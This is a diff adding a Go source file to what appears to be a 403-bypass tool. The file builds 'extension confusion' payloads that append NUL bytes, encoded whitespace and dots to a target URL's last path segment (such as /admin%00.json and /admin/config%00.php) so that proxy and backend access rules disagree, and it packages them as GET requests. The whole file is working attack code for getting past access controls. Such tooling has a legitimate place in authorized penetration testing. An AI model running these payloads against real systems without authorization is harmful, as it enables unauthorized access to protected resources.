@@ -0,0 +1,101 @@
+package payload
+
+import (
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+// extensionConfusionBytes are the encoded bytes appended to the last path segment. A server
+// (or a C based backend) truncating the path at a NUL byte, or trimming trailing whitespace
+// and dots, sees the original path while the ACL matched another one
+var extensionConfusionBytes = []string{"%00", "%09", "%20", "%0a", "%2e", "%2e%2e"}
+
+// extensionConfusionExtensions are the extensions added to the last path segment, the static
+// and API extensions ACLs and caches commonly allow through
+var extensionConfusionExtensions = []string{"json", "html", "js", "css", "png"}
+
+/*
+GenerateExtensionConfusionPayloads generates payloads confusing extension based ACLs with
+NUL bytes, whitespace and dots around the extension of the last path segment.
+
+A proxy rule allowing "*.json" or denying "*.php" matches the raw path, while the backend
+may cut it at %00, trim trailing whitespace and dots, or take the extension before the NUL.
+Unlike end_paths, which appends wordlist suffixes, only the segment's extension is targeted.
+
+For a URL like /admin, it creates:
+ 1. Encoded byte suffixes: /admin%00, /admin%09, /admin%20, /admin%0a, /admin%2e, /admin%2e%2e
+ 2. NUL before an extension: /admin%00.json, /admin%00.html, ...
+ 3. NUL after an extension:  /admin.json%00, /admin.html%00, ...
+
+When the last segment already has an extension (/admin/config.php), it also creates:
+ 4. NUL before its extension: /admin/config%00.php
+ 5. Encoded extension dot:    /admin/config%2ephp
+
+The original query string is appended to all payloads, duplicates are removed.
+*/
+func (pg *PayloadGenerator) GenerateExtensionConfusionPayloads(targetURL string, bypassModule string) []BypassPayload {
+	var jobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL: %s", targetURL)
+		return jobs
+	}
+
+	query := ""
+	if parsedURL.Query != "" {
+		query = "?" + parsedURL.Query
+	}
+
+	// The extension belongs to the last segment, a trailing slash is dropped
+	basePath := strings.TrimRight(parsedURL.Path, "/")
+
+	var rawURIs []string
+	seen := make(map[string]struct{})
+	addPath := func(path string) {
+		if !strings.HasPrefix(path, "/") {
+			path = "/" + path
+		}
+		rawURI := path + query
+		if _, ok := seen[rawURI]; ok {
+			return
+		}
+		seen[rawURI] = struct{}{}
+		rawURIs = append(rawURIs, rawURI)
+	}
+
+	for _, b := range extensionConfusionBytes {
+		addPath(basePath + b)
+	}
+	for _, ext := range extensionConfusionExtensions {
+		addPath(basePath + "%00." + ext)
+		addPath(basePath + "." + ext + "%00")
+	}
+
+	// Last segment with an extension of its own, e.g. config.php
+	lastSegment := basePath[strings.LastIndex(basePath, "/")+1:]
+	if dot := strings.LastIndex(lastSegment, "."); dot > 0 && dot < len(lastSegment)-1 {
+		name := basePath[:len(basePath)-len(lastSegment)+dot]
+		ext := lastSegment[dot+1:]
+		addPath(name + "%00." + ext)
+		addPath(name + "%2e" + ext)
+	}
+
+	for _, rawURI := range rawURIs {
+		job := BypassPayload{
+			OriginalURL:  targetURL,
+			Method:       "GET",
+			Scheme:       parsedURL.Scheme,
+			Host:         parsedURL.Host,
+			RawURI:       rawURI,
+			BypassModule: bypassModule,
+		}
+		job.PayloadToken = GeneratePayloadToken(job)
+		jobs = append(jobs, job)
+	}
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s", len(jobs), targetURL)
+	return jobs
+}